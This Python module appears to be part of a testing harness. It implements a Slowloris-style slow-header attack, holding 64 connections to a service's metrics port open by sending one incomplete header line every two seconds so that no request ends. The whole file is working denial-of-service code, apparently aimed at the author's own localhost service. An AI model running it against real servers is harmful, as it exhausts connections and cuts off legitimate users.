"""Sockets of the operations port that send a line every two seconds, so that no request ever ends."""
import time

from attack_program import program

LINE_EVERY_S = 2.0


def run(attack):
    held = [attack.connect(begin=False) for _ in range(attack.options.connections)]
    for connection in held:
        connection.send(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n")
    while attack.more() and any(c.open for c in held):
        end = time.monotonic() + LINE_EVERY_S
        while time.monotonic() < min(end, attack.end):
            for connection in held:
                connection.receive()
            time.sleep(0.05)
        for connection in held:
            connection.send(b"X-Slow: 1\r\n")
    attack.hold(held)


if __name__ == "__main__":
    program(__doc__, run, count=0, connections=64, megabytes=1)
